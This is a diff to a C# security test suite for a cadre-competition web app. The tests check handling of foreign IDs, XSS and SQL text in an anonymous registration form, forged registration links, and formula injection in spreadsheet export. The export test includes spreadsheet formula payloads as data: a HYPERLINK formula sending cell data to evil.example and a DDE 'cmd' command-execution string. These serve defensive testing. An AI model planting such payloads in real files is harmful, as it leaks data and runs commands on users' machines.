@@ -25,6 +25,9 @@ namespace CompetitivePosts.Web.Tests.Features.Security;
 [Collection(AppTests.Name)]
 public class HostileInputTests(AppFixture app)
 {
+    /// <summary>The cell types of SpreadsheetML that hold text: a string value, an inline string, a shared string.</summary>
+    private static readonly string[] TextCellTypes = ["str", "inlineStr", "s"];
+
     /// <summary>The message a refusal shows, in Chinese; fails when the key has no zh-CN text.</summary>
     private string Chinese(string key, params object[] args)
     {
@@ -92,9 +95,11 @@ public class HostileInputTests(AppFixture app)
         var organizer = Scenarios.Organizer(unit);
         var foreignCompetition = await ForeignCompetitionAsync();
         var draft = await NewDraftAsync(organizer, unit);
+        var registering = await app.ArrangeAsync(CompetitionStatus.Registration);
+        var openPost = await app.PostIdAsync(registering.CompetitionId, "综合科科长");
         using var scope = app.Services.CreateScope();
         var roster = scope.ServiceProvider.GetRequiredService<RosterHandler>();
-        var registration = scope.ServiceProvider.GetRequiredService<RegistrationHandler>();
+        var register = scope.ServiceProvider.GetRequiredService<Register>();
         var decisions = scope.ServiceProvider.GetRequiredService<DecisionsHandler>();
         var before = await DbSnapshot.TakeAsync(app);
 
@@ -105,7 +110,11 @@ public class HostileInputTests(AppFixture app)
             await Assert.ThrowsAsync<DomainException>(() => roster.AddCadreAsync(foreignCompetition, organizer, "外单位", VoterCategory.C)),
             // A cadre of another competition, in this unit's own draft.
             await Assert.ThrowsAsync<DomainException>(() => roster.AddPostAsync(draft, organizer, "岗位", PostLevel.Deputy, null, ours.Id("乙"))),
-            await Assert.ThrowsAsync<DomainException>(() => registration.RegisterAsync(draft, organizer, ours.Id("乙"), int.MaxValue, false)),
+            // Another competition's cadre, and a post that does not exist, in this unit's competition open for registration.
+            await Assert.ThrowsAsync<DomainException>(() => register.ByOrganizerAsync(registering.CompetitionId, organizer,
+                new Register.Command(ours.Id("丙"), [openPost], true, null))),
+            await Assert.ThrowsAsync<DomainException>(() => register.ByOrganizerAsync(registering.CompetitionId, organizer,
+                new Register.Command(registering.Id("丙"), [int.MaxValue], true, null))),
             await Assert.ThrowsAsync<DomainException>(() => decisions.DecideAsync(ours.CompetitionId, organizer, int.MaxValue, ours.Id("乙"), null)),
         };
 
@@ -272,6 +281,101 @@ public class HostileInputTests(AppFixture app)
         Assert.Contains(wrong, await huge.Content.ReadAsStringAsync(), StringComparison.Ordinal);
         Assert.DoesNotContain(browser.Cookies.GetCookies(app.BaseUri), c => c.Name == ".AspNetCore.Identity.Application");
         before.AssertUnchanged(await DbSnapshot.TakeAsync(app));
+    }
+
+    [Fact]
+    public async Task SelfRegistration_HostileStatementThroughTheAnonymousForm_IsStoredLiterallyShownEncodedAndRefusedOverTheLimit()
+    {
+        var s = await app.ArrangeAsync(CompetitionStatus.Registration);
+        using var scope = app.Services.CreateScope();
+        var token = (await scope.ServiceProvider.GetRequiredService<RegistrationLinks>()
+            .IssueAsync(s.CompetitionId, Scenarios.Organizer(await app.DemoUnitIdAsync()), [s.Id("丙")])).Single().Token;
+        var post = (await app.PostIdAsync(s.CompetitionId, "综合科科长")).ToString(CultureInfo.InvariantCulture);
+        using var phone = new WebSession(app.BaseUri);
+        var hostile = HostileInputs.Xss + HostileInputs.Sql;
+
+        var before = await DbSnapshot.TakeAsync(app);
+        using var tooLong = await phone.SubmitAsync("/r/" + token, "register", new()
+        {
+            ["Form.Posts[0]"] = post,
+            ["Form.Statement"] = new string('长', Competition.StatementLength + 1),
+        });
+        var refused = await tooLong.Content.ReadAsStringAsync();
+        before.AssertUnchanged(await DbSnapshot.TakeAsync(app));
+        Assert.Contains(Chinese("Text is longer than {0} characters.", Competition.StatementLength), refused, StringComparison.Ordinal);
+
+        using var saved = await phone.SubmitAsync("/r/" + token, "register", new() { ["Form.Posts[0]"] = post, ["Form.Statement"] = hostile });
+        var html = await saved.Content.ReadAsStringAsync();
+
+        Assert.Contains("link-saved", html, StringComparison.Ordinal);
+        await using var db = app.NewDb();
+        Assert.Equal(hostile, await db.Set<CadreRegistration>().Where(r => r.CompetitionId == s.CompetitionId).Select(r => r.Statement).SingleAsync());
+        Assert.True(await db.Units.AnyAsync());
+        // The page shows the saved statement back in its text box: encoded, so no element of it reaches the page.
+        Assert.DoesNotContain("<svg", html, StringComparison.OrdinalIgnoreCase);
+        Assert.DoesNotContain("<script>__xss", html, StringComparison.Ordinal);
+        Assert.Contains("&lt;svg onload=__xss=1&gt;", html, StringComparison.Ordinal);
+        // control: a forged token saves nothing and shows nothing of the competition.
+        var afterSave = await DbSnapshot.TakeAsync(app);
+        // The form of the real page (its antiforgery token) posted to a forged link.
+        var form = WebSession.HiddenFields(await phone.Http.GetStringAsync("/r/" + token));
+        form["_handler"] = "register";
+        form["Form.Posts[0]"] = post;
+        form["Form.Statement"] = "伪造";
+        using var forged = await phone.Http.PostAsync("/r/forged-" + Guid.NewGuid().ToString("N"), new FormUrlEncodedContent(form));
+        Assert.Contains("link-unknown", await forged.Content.ReadAsStringAsync(), StringComparison.Ordinal);
+        afterSave.AssertUnchanged(await DbSnapshot.TakeAsync(app));
+    }
+
+    [Fact]
+    public async Task Export_FormulaLikeCells_AreWrittenAsTextAndComeBackUnchanged()
+    {
+        var unit = await app.DemoUnitIdAsync();
+        var organizer = Scenarios.Organizer(unit);
+        var id = await NewDraftAsync(organizer, unit);
+        var formulas = new Dictionary<string, string>
+        {
+            ["所在处室"] = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"点此查看\")",
+            ["现任职务"] = "+cmd|' /C calc'!A0",
+            ["专业"] = "@SUM(1+1)",
+            ["民族"] = "-2+3",
+        };
+        var rows = RosterFiles.Cadres(1);
+        foreach (var (column, text) in formulas)
+        {
+            rows[0][column] = text;
+        }
+
+        using var scope = app.Services.CreateScope();
+        var import = scope.ServiceProvider.GetRequiredService<ImportRoster.Handler>();
+        await import.CommitAsync(id, organizer, await import.PreviewAsync(id, organizer, RosterFile.Cadres, "公式.xlsx", RosterFiles.Xlsx(rows)));
+        using var browser = await WebSession.SignInAsync(app, "organizer");
+
+        var exported = await browser.Http.GetByteArrayAsync(ExportRoster.CadresPath(id));
+
+        // An .xlsx is a zip of XML parts: a live formula is an <f> element, which the export must never write.
+        using var zip = new System.IO.Compression.ZipArchive(new MemoryStream(exported));
+        var sheets = zip.Entries.Where(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal) && e.FullName.EndsWith(".xml", StringComparison.Ordinal)).ToList();
+        Assert.NotEmpty(sheets);
+        foreach (var sheet in sheets)
+        {
+            using var reader = new StreamReader(sheet.Open());
+            var xml = System.Xml.Linq.XDocument.Parse(await reader.ReadToEndAsync());
+            Assert.DoesNotContain(xml.Descendants(), e => e.Name.LocalName == "f");
+            foreach (var text in formulas.Values)
+            {
+                // The cell holds the text as a string value, not as a formula or a number.
+                var cell = xml.Descendants().Single(e => e.Name.LocalName == "c" && e.Value == text);
+                Assert.Contains((string?)cell.Attribute("t"), TextCellTypes);
+            }
+        }
+
+        // control: the exported file, imported again, changes nothing: the text came back exactly as stored.
+        var again = await import.PreviewAsync(id, organizer, RosterFile.Cadres, "导出.xlsx", exported);
+        Assert.Empty(again.Problems);
+        Assert.Equal(new Domain.Competitions.ImportCounts(0, 0, 1), again.Counts);
+        await using var db = app.NewDb();
+        Assert.Equal(formulas["所在处室"], await db.Cadres.Where(c => c.CompetitionId == id).Select(c => c.Department).SingleAsync());
     }
 
     private async Task<int> ForeignCompetitionAsync()
